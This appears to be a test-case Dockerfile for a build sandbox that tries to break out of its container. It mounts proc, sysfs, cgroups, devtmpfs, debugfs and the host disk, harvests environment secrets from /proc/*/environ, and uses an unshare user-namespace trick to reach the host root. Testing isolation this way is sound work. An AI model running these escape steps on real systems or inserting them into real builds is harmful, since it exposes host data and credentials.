# tries: mounts: proc, sysfs, cgroups, the disks of the node, in namespaces of its own too
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN <<'ATTACK'
. /lib/hunt.sh
n=0
mkdir -p /m
for try in "-t proc proc" "-t sysfs sysfs" "-t cgroup cgroup" "-t cgroup2 cgroup2" "-t devtmpfs dev" "-t debugfs d" "-t tracefs t" "-t bpf b" "-t ext4 /dev/vda" "-t securityfs s"; do
  n=$((n + 1))
  mount $try /m 2>/dev/null || continue
  case $try in
    *devtmpfs* | *debugfs* | *tracefs* | *ext4* | *securityfs* | *cgroup*) echo "ESCAPED mount $try" ;;
    *proc*) [ -d /m/1 ] && for p in /m/[0-9]*; do attack scan "$p/environ"; done ;;
  esac
  umount /m
done
unshare -Urm sh -c 'mount -t devtmpfs d /m && echo "ESCAPED devtmpfs"; mount -t ext4 /dev/vda /m && echo "ESCAPED disk"; . /lib/hunt.sh; mount --bind /proc/1/root /m && daemon_file /m' 2>/dev/null
tried "$n"
ATTACK
